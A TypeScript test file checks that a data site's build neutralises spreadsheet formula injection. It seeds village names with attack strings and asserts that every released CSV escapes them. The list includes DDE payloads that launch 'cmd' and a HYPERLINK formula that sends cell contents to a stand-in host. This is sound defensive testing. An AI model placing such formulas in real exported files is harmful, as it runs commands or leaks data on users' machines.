import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { csvParseRows } from "d3";
import { expect, test } from "vitest";
import { walk } from "../../../loaders/files.ts";
import { areasCsv, incomeCsv, makeProject } from "../../project.ts";

/** Names that Excel, WPS and LibreOffice would run when the file is opened. */
const attacks = [
  '=HYPERLINK("http://x.invalid/"&A1,"open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
];

test("names that are formulas pass the whole build and stand in no CSV of the release as one", async () => {
  const project = await makeProject();
  try {
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const villages = attacks.map(
      (name, i) => `99990100100${i + 2},999901001,village,village,${quoted(name)},${quoted(name)}`,
    );
    await project.send("areas", "areas.csv", `${areasCsv}${villages.join("\n")}\n`);
    await project.send("income", "income-2021-Q1.csv", incomeCsv(12));
    await project.build();
    const files = (await walk(project.paths.siteData)).filter((file) => file.endsWith(".csv"));
    const fields = new Set<string>();
    for (const file of files)
      for (const row of csvParseRows(await readFile(join(project.paths.siteData, file), "utf8")))
        for (const field of row) fields.add(field);
    for (const name of attacks) expect(fields, name).toContain(`'${name}`);
    const live = [...fields].filter((f) => /^[=+\-@\t\r\n＝＋－＠]/.test(f) && Number.isNaN(Number(f)));
    expect(live).toEqual([]);
  } finally {
    await project.remove();
  }
});
